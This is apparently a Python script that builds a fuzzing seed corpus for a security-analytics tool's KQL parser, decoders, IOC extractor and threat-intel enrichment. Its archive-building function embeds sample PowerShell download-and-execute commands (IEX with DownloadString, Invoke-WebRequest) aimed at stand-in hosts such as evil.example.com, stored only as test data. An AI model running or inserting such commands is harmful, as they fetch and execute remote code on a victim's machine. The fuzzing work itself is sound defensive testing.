#!/usr/bin/env python3
"""Writes the committed seed corpus, fuzz/corpus/<target>/, from the project's fixtures, query files and tests.

Run from the repository root: python3 fuzz/make_seeds.py. It clears and rewrites fuzz/corpus/. Sources:
../shared/fixtures (read-only; tour tables cut to a few rows), queries/*.yaml, string literals of tests/*.rs,
demo_data/demo.mmdb, and small archives built here. Each file is named by the sha1 of its content (as libFuzzer
names corpus entries), so rerunning gives the same files.
"""
import bz2, gzip, hashlib, io, json, os, re, shutil, tarfile, zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
FIX = ROOT / ".." / "shared" / "fixtures"
OUT = ROOT / "fuzz" / "corpus"


def put(target, data):
    if isinstance(data, str):
        data = data.encode()
    d = OUT / target
    d.mkdir(parents=True, exist_ok=True)
    (d / hashlib.sha1(data).hexdigest()).write_bytes(data)


ESC = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\", '"': '"', "'": "'", "0": "\0"}


def unescape(s):
    s = re.sub(r"\\\n\s*", "", s)  # Rust line continuation
    return re.sub(r"\\(.)", lambda m: ESC.get(m.group(1), m.group(0)), s)


def literals(path):
    """Every string literal of a Rust file: "…" and r#"…"#."""
    text = Path(path).read_text()
    out = [m.group(1) for m in re.finditer(r'r#"(.*?)"#', text, re.S)]
    text = re.sub(r'r#".*?"#', "", text, flags=re.S)
    out += [unescape(m.group(1)) for m in re.finditer(r'"((?:[^"\\]|\\.)*)"', text, re.S)]
    return out


def la_rows(path, rows=3, cell=400):
    """A Log Analytics answer cut to its first rows, long cells cut (valid JSON, a few KB)."""
    v = json.loads(Path(path).read_text())
    for t in v.get("tables", []):
        t["rows"] = [[c[:cell] if isinstance(c, str) else c for c in r] for r in t["rows"][:rows]]
    return json.dumps(v)


def kql():
    seen = set()
    for f in ["tests/kql_exec.rs", "tests/kql_limits.rs", "tests/kql_tour_equivalence.rs"]:
        for s in literals(ROOT / f):
            s = s.strip()
            if len(s) < 4 or len(s) > 3000 or s in seen:
                continue
            if "|" in s or re.match(r"(print|range|datatable|let|union|T\b|U\b|search|find)", s):
                seen.add(s)
    for s in sorted(seen)[:400]:
        put("kql", s)
    extra = [
        "let n = 3; let f = (x:long) { x * n }; T | extend y = f(N) | where y > 5 | project User, y",
        "let V = T | where Ok; V | join kind=leftouter (U) on User | summarize count() by Dept",
        "T | mv-expand Props.tags | summarize dcount(User) by tostring(Props_tags)",
        "T | make-series c = count() default=0 on TimeGenerated from datetime(2024-01-01) to now() step 1h by User",
        "range i from 1 to 10 step 1 | extend s = strrep('ab', i) | summarize make_list(s)",
        "T | extend d = parse_json(tostring(Props)) | extend lat = todouble(d.geo.lat), tag = d.tags[0]",
        "T | where TimeGenerated > ago(2d) and Cmd has 'enc' | extend b = base64_decode_tostring(extract('-enc (\\\\S+)', 1, Cmd))",
        "Empty | summarize arg_max(B, *) by A",
        "U | where Seen between (datetime(1677-09-22) .. datetime(2262-04-11)) | extend b = bin(Seen, 1d)",
        "T | summarize percentiles(N, 5, 50, 95), stdev(Score), make_set(IP) by bin(TimeGenerated, 1h) | render timechart",
    ]
    for s in extra:
        put("kql", s)
    # The catalog's query templates as KQL (placeholders left in: the parser must refuse them cleanly).
    for y in sorted((ROOT / "queries").glob("*.yaml"))[:4]:
        for m in re.finditer(r"query: '(.*?)'\n", y.read_text(), re.S):
            put("kql", m.group(1)[:3000])


def archives():
    text = b"Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe\n"
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as f:
        f.writestr("a.txt", text)
        f.writestr("dir/b.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/x')")
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as f:
        info = tarfile.TarInfo("c.txt")
        info.size = len(text)
        f.addfile(info, io.BytesIO(text))
    tar = t.getvalue()
    return {
        "zip": z.getvalue(),
        "gz": gzip.compress(text, mtime=0),
        "bz2": bz2.compress(text),
        "tar": tar,
        "tgz": gzip.compress(tar, mtime=0),
        "gz_of_zip": gzip.compress(z.getvalue(), mtime=0),
        "utf16": "IEX (iwr http://evil.example.com/a.ps1)".encode("utf-16-le"),
        "mz": b"MZ\x90\x00" + bytes(60),
    }


def decode():
    for s in literals(ROOT / "tests/decode.rs"):
        if re.search(r"[A-Za-z0-9+/=_-]{30,}", s) and len(s) < 5000:
            put("decode", s)
    for data in archives().values():
        put("decode", data)
    procs = json.loads((FIX / "tour" / "asn_processes_on_host.la.json").read_text())
    t = procs["tables"][0]
    ci = [c["name"] for c in t["columns"]].index("CommandLine")
    lines = sorted({r[ci] for r in t["rows"] if isinstance(r[ci], str) and re.search(r"[A-Za-z0-9+/=]{30,}", r[ci])})
    for s in lines[:10]:
        put("decode", s[:4000])


def ioc():
    for s in literals(ROOT / "tests/ioc.rs"):
        if len(s) >= 12 and len(s) < 8000:
            put("ioc", s)
    procs = json.loads((FIX / "tour" / "asn_processes_on_host.la.json").read_text())
    t = procs["tables"][0]
    ci = [c["name"] for c in t["columns"]].index("CommandLine")
    lines = sorted({r[ci] for r in t["rows"] if isinstance(r[ci], str) and re.search(r"https?://|\d+\.\d+\.\d+\.\d+", r[ci])})
    for s in lines[:15]:
        put("ioc", s[:4000])


def responses():
    la = FIX / "loganalytics"
    put("responses", b"\x00" + (la / "az_mon_raw_query.json").read_bytes())
    for f in sorted((FIX / "tour").glob("*.la.json")):
        put("responses", b"\x00" + la_rows(f).encode())
        put("responses", b"\x04" + la_rows(f, rows=1).encode())
    # Data Explorer v2: the frames with each table cut to 3 rows.
    v2 = json.loads((la / "kusto_raw_resp.json").read_text())
    for fr in v2:
        if "Rows" in fr:
            fr["Rows"] = fr["Rows"][:3]
    put("responses", b"\x01" + json.dumps(v2).encode())
    put("responses", b"\x01" + json.dumps([x for x in v2 if x.get("FrameType") != "DataSetCompletion"]).encode())
    put("responses", b"\x02" + b"TimeGenerated,User,N,Ok\n2024-01-01T00:00:00Z,alice,5,true\n2024-01-02,\"b,\"\"ob\",,false\n")
    put("responses", b"\x03" + b'[{"TimeGenerated":"2024-01-01T00:00:00Z","User":"alice","N":5,"Props":{"a":[1,2]}},{"User":null,"N":1.5}]')
    schema = json.loads((la / "az_mon_schema.json").read_text())
    if isinstance(schema, dict) and isinstance(schema.get("value"), list):
        schema["value"] = schema["value"][:3]
    put("responses", b"\x05" + json.dumps(schema).encode())
    put("responses", b"\x06" + (FIX / "enrich" / "entities.json").read_bytes())


def queries():
    for f in sorted((ROOT / "queries").glob("*.yaml")) + sorted((FIX / "msticpy-queries").glob("*.yaml")):
        put("queries", f.read_bytes())
    small = (FIX / "msticpy-queries" / "kql_sent_az_network.yaml").read_bytes()
    put("queries", small + b'\x00{"start":"-2d","end":"now","ip_address_list":["10.0.0.1","x\'y"],"add_query_items":"| take 1"}')


def enrich():
    put("enrich", b"\x00" + (ROOT / "demo_data" / "demo.mmdb").read_bytes())
    cymru = (FIX / "enrich" / "cymru_asn_13.107.4.50.txt").read_text().splitlines()
    origin = '"8068 | 13.107.4.0/24 | US | arin | 2015-03-26"'
    doh = json.dumps({"Status": 0, "Answer": [{"name": "50.4.107.13.origin.asn.cymru.com.", "type": 16, "TTL": 300, "data": origin}]})
    rdap = (FIX / "enrich" / "rdap_ip_13.107.4.50.json").read_text()
    put("enrich", b"\x01" + doh.encode() + b"\x00" + rdap.encode())
    put("enrich", b"\x02" + "\n".join(cymru).encode())
    put("enrich", b"\x02" + origin.encode())
    put("enrich", b"\x02" + rdap.encode())
    put("enrich", b"\x02" + doh.encode())
    boot = ROOT / "src" / "enrich" / "whois" / "rdap_bootstrap.json"
    put("enrich", b"\x02" + boot.read_bytes()[:6000])
    order = ["VirusTotal", "OTX", "AbuseIPDB", "GreyNoise", "XForce", "Tor", "URLhaus"]
    ti = json.loads((FIX / "enrich" / "msticpy_ti_results.json").read_text())
    for r in ti:
        if r["Provider"] in order and r.get("RawResult") is not None:
            raw = r["RawResult"]
            body = raw if isinstance(raw, str) else json.dumps(raw)
            put("enrich", bytes([3 + order.index(r["Provider"]), 0]) + body[:8000].encode())
    vt = json.loads((FIX / "enrich" / "vt3_file_1.json").read_text())
    put("enrich", bytes([3, 0]) + json.dumps(vt)[:12000].encode())
    put("enrich", bytes([5, 0]) + b'{"data":{"ipAddress":"8.8.8.8","abuseConfidenceScore":75,"totalReports":12,"countryCode":"US"}}')
    put("enrich", bytes([6, 0]) + b'{"ip":"8.8.8.8","noise":true,"riot":false,"classification":"malicious","name":"x","link":"https://viz.greynoise.io/ip/8.8.8.8"}')
    put("enrich", bytes([8, 0]) + b"ExitNode 0011\nPublished 2024-01-01 00:00:00\nExitAddress 8.8.8.8 2024-01-01 00:00:00\n")
    put("enrich", bytes([9, 0]) + b'{"query_status":"ok","threat":"malware_download","url_status":"online","tags":["exe"],"blacklists":{"spamhaus_dbl":"not listed"}}')
    ind = {"tables": [{"name": "PrimaryResult", "columns": [{"name": "NetworkIP", "type": "string"}, {"name": "DomainName", "type": "string"}, {"name": "Url", "type": "string"}, {"name": "ConfidenceScore", "type": "int"}, {"name": "ThreatType", "type": "string"}, {"name": "Description", "type": "string"}],
                       "rows": [["8.8.8.8", None, None, 90, "C2", "seen"], [None, "evil.example.com", "http://evil.example.com/a?b=c", 50, "Phishing", None]]}]}
    put("enrich", b"\x0a" + json.dumps(ind).encode())


if __name__ == "__main__":
    shutil.rmtree(OUT, ignore_errors=True)
    for f in (kql, decode, ioc, responses, queries, enrich):
        f()
    for d in sorted(OUT.iterdir()):
        files = list(d.iterdir())
        print(f"{d.name}: {len(files)} files, {sum(p.stat().st_size for p in files)} bytes")
